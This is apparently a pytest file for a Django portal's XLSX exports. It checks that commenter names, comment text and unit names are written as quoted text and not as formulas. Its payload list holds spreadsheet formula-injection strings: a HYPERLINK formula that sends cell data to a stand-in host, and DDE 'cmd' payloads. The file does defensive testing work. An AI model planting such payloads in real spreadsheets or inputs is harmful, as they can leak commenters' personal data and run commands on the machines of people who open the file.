"""Formula injection: what a person typed goes into every XLSX the portal produces as text.

A commenter named `=HYPERLINK("http://evil.example", …)` was written as a live formula into the sheet
that also holds every commenter's e-mail and phone.
"""

from __future__ import annotations

import io
import zipfile
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from reports.figures import build_figures
from reports.render_xlsx import render_xlsx

from ..factories.consultations import CommentFactory, DraftFactory
from ..factories.subsites import UnitFactory
from ..reports.fakes import FakeSources

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&H5,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content: bytes, sheet: int = 0) -> dict:
    workbook = load_workbook(io.BytesIO(content))
    return {c.value: c for row in workbook.worksheets[sheet].iter_rows() for c in row if c.value is not None}


def _assert_text(content: bytes, payload: str, sheet: int = 0) -> None:
    cell = _cells(content, sheet).get(payload)
    assert cell is not None, f"{payload!r} is not in the sheet unchanged"
    assert cell.data_type == "s" and cell.quotePrefix, (payload, cell.data_type)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets), "a formula"


@pytest.mark.parametrize("payload", PAYLOADS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_comment_export_writes_names_and_comments_as_text(client, editor_a, unit_a, payload):
    draft = DraftFactory(unit=unit_a, scheduled=True, text=True)
    CommentFactory(draft=draft, confirmed=True, name=payload, organization=payload, text=payload)
    client.force_login(editor_a)
    response = client.get(reverse("admin:consultations_draft_export", args=[draft.pk, "xlsx"]))
    assert response.status_code == 200
    _assert_text(response.content, payload)


def test_report_appendix_writes_unit_names_as_text(main_portal):
    payload = PAYLOADS[0]
    UnitFactory(key="stp", name_vi=payload)
    figures = build_figures(date(2022, 1, 1), date(2022, 6, 30), sources=FakeSources())
    _assert_text(render_xlsx(figures), payload)
